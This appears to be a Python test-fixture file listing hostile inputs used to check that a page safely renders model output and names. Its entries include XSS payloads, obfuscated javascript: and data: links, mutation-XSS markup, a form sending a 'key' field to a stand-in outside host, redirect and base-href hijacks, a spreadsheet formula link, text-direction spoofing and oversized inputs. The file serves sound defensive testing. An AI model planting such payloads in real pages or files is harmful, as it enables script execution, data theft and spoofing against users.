"""What a model, a person or a file may be called or say to do harm in a page."""

from collections.abc import Mapping

OWNED = "document.title='owned'"

ANSWERS: Mapping[str, str] = {
    "a script": f"<script>{OWNED}</script>",
    "an image that fails": f'<img src=x onerror="{OWNED}">',
    "a drawing that loads": f"<svg onload={OWNED}><a href=javascript:{OWNED}>x</a></svg>",
    "a frame with a document": f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    "a style for everything": "<style>body { display: none }</style>",
    "another base": '<base href="http://elsewhere.invalid/">',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/">',
    "a form": '<form action="http://elsewhere.invalid/"><input name=key><button>Go</button></form>',
    "details that open": f"<details open ontoggle={OWNED}>x</details>",
    "HTML that changes when it is read twice": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={OWNED}&gt;">'
    ),
    "a link that is a script": f"[open](javascript:{OWNED})",
    "a link with a sign in an entity": f"[open](&#106;avascript:{OWNED})",
    "a link with a tab in its scheme": f"[open](java&Tab;script:{OWNED})",
    "a link in capitals behind a space": f"[open]( JaVaScRiPt:{OWNED})",
    "a link with a control character": f"[open](\x01javascript:{OWNED})",
    "a link in angle brackets": f"<javascript:{OWNED}>",
    "a link that is defined elsewhere": f"[open][1]\n\n[1]: javascript:{OWNED}",
    "a link to a page of data": f"[open](data:text/html,<script>opener.{OWNED}</script>)",
    "a link to a file": "[open](file:///etc/passwd)",
    "a link in VBScript": "[open](vbscript:MsgBox)",
    "a link with quotes": '[open](https://a.invalid/"onmouseover="x)',
    "a picture from elsewhere": "![a cat](http://elsewhere.invalid/pixel.png)",
    "a picture from where the page is": "![a cat](/health)",
    "a picture that is a drawing": (
        f"![a cat](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload={OWNED}/>)"
    ),
    "a link around a picture": "[![a cat](http://elsewhere.invalid/a.png)](javascript:alert(1))",
    "code in a language with quotes": f'```html" onmouseover="{OWNED}\n<img src=x>\n```',
    "code in a language of every object": "```constructor\nx\n```\n\n```__proto__\nx\n```",
    "code that never ends": "```js\n</code></pre><script>" + OWNED + "</script>",
    "text that turns the rest around": "\u202egnp.exe\u202c \u2066\u202e abc",
    "a word without an end": "W" * 5_000,
    "a table without an end": (
        "|" + "a very long heading|" * 60 + "\n|" + "-|" * 60 + "\n|" + "x|" * 60
    ),
    "many marks on one letter": "Z" + "\u0324\u0317\u0310" * 300,
    "half of a sign, and none": "\ud83d \x00 \x1b[31m \x07",
    "quotes without an end": ">" * 2_000 + " deep",
    "brackets without an end": "[" * 4_000,
    "stars without an end": "*a **b " * 1_000,
    "lists without an end": "".join(f"{'  ' * depth}- {depth}\n" for depth in range(150)),
}
"""What a model says, by what is wrong with it."""

NAMES: Mapping[str, str] = {
    "an image that fails": '"><img src=x onerror=document.title=1>',
    "a script": "</span><script>document.title=1</script>",
    "a formula": '=HYPERLINK("http://elsewhere.invalid","x")',
    "text that turns the rest around": "\u202elive-key\u2066",
    "one word": "W" * 64,
    "an object's own": "__proto__",
    "a line of a table": 'a",b\tc',
}
"""Labels of keys, at most 64 characters; names of models and files."""
